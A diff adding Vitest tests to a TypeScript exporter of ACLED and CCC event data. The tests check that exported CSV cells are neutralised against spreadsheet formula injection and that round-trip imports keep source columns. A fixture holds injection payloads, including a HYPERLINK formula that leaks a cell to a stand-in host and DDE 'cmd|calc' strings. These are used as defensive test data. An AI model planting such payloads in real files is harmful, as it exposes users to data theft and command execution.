@@ -1,6 +1,10 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { exportFileName, reportCsv, toAcledCsv, toCccCsv, toGeoJson } from './export';
+import Papa from 'papaparse';
+import { ACLED_COLUMNS } from './import/acled';
+import { CCC_COLUMNS } from './import/ccc';
+import { acledCsv, acledRow, cccCsv, cccRow, toCsv } from './import/fixtures';
 import { importText } from './import/run';
 import { placeName } from './names';
 import type { PublishedDataset } from './published';
@@ -85,5 +89,106 @@ describe('exporting what is shown, and importing it again', () => {
 			'warning,9,latitude,latitude and longitude look swapped',
 			''
 		]);
+	});
+});
+
+/** The rows of a CSV as records, by its header. */
+function records(csv: string): Record<string, string>[] {
+	return Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
+}
+
+const HOSTILE = {
+	hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full report")',
+	sum: '@SUM(1+1) square',
+	command: "+cmd|' /C calc'!A0",
+	minus: '-2+3+cmd|calc',
+	tab: '\t=1+1',
+	apostrophe: "'=already quoted"
+};
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+describe('exports that a spreadsheet opens as text', () => {
+	async function hostileDataset() {
+		const acled = acledCsv([
+			acledRow({
+				event_id_cnty: 'ESP77',
+				notes: HOSTILE.hyperlink,
+				actor1: HOSTILE.sum,
+				location: HOSTILE.command,
+				source: HOSTILE.minus,
+				assoc_actor_1: HOSTILE.apostrophe,
+				admin1: HOSTILE.tab,
+				latitude: '40.4168',
+				longitude: '-3.7038',
+				country: 'Spain'
+			})
+		]);
+		return (await importText(acled, options)).dataset;
+	}
+
+	it.each([
+		['ACLED', toAcledCsv, new Set(['latitude', 'longitude'])],
+		['CCC', toCccCsv, new Set(['lat', 'lon'])]
+	] as const)('%s: no cell starts a formula, and negative longitudes stay numbers', async (_, write, numbers) => {
+		const dataset = await hostileDataset();
+		const rows = records(write(dataset.events, dataset.places));
+		const cells = rows.flatMap((row) => Object.entries(row));
+		const formulas = cells.filter(([column, cell]) => FORMULA_START.test(cell) && !numbers.has(column));
+		expect(formulas).toEqual([]);
+		expect(cells.filter(([column]) => numbers.has(column)).map(([, cell]) => cell)).toContain('-3.7038');
+	});
+
+	it.each([
+		['ACLED', toAcledCsv],
+		['CCC', toCccCsv]
+	] as const)('%s: importing the export gives the hostile texts back whole', async (_, write) => {
+		const dataset = await hostileDataset();
+		const { dataset: again, report } = await importText(write(dataset.events, dataset.places), options);
+		expect(report.rejected).toBe(0);
+		const texts = (d: PublishedDataset) => [
+			...d.events.flatMap((e) => [...e.actors, ...e.sources.map((s) => s.quote)]),
+			...d.places.map((p) => placeName(p))
+		];
+		// A cell written as '= by a spreadsheet is read as the text after the apostrophe.
+		for (const text of [HOSTILE.hyperlink, HOSTILE.command, HOSTILE.sum, '=already quoted'])
+			expect(texts(again)).toContain(text);
+	});
+
+	it('the import report is safe too', () => {
+		const csv = reportCsv({ rejections: [{ line: 2, field: 'notes', message: HOSTILE.hyperlink }], warnings: [] });
+		expect(records(csv)[0]!.reason).toBe(`'${HOSTILE.hyperlink}`);
+	});
+});
+
+describe('an export in the format the data came in gives back the source rows', () => {
+	it('ACLED: every column with its original value, ids in their case, and the file’s own columns', async () => {
+		const source = [
+			acledRow({ event_id_cnty: 'BLR9001', custom_code: 'X-1' }),
+			acledRow({ event_id_cnty: 'BLR9002', iso: '112', source_scale: 'Subnational', interaction: '60', tags: '' })
+		];
+		const columns = [...ACLED_COLUMNS, 'custom_code'];
+		const { dataset } = await importText(toCsv(source, columns), options);
+		const exported = records(toAcledCsv(dataset.events, dataset.places));
+		expect(Object.keys(exported[0]!)).toEqual(columns);
+		for (const [i, row] of source.entries())
+			for (const column of columns)
+				if (row[column]) expect({ column, value: exported[i]![column] }).toEqual({ column, value: row[column] });
+		expect(exported.map((r) => r.event_id_cnty)).toEqual(['BLR9001', 'BLR9002']);
+	});
+
+	it('CCC: every column with its original value', async () => {
+		const source = [cccRow(), cccRow({ location: '', size_cat: '3', valence: '2', issues: 'labor; wages' })];
+		const { dataset } = await importText(cccCsv(source), options);
+		const exported = records(toCccCsv(dataset.events, dataset.places));
+		for (const [i, row] of source.entries())
+			for (const column of CCC_COLUMNS)
+				if (row[column]) expect({ column, value: exported[i]![column] }).toEqual({ column, value: row[column] });
+	});
+
+	it('data from another format still fills the columns from its own fields', async () => {
+		const dataset = published();
+		const rows = records(toAcledCsv(dataset.events.slice(0, 3), dataset.places));
+		expect(rows.map((r) => r.event_id_cnty)).toEqual(dataset.events.slice(0, 3).map((e) => e.id));
+		expect(rows.every((r) => r.event_type && r.latitude)).toBe(true);
 	});
 });
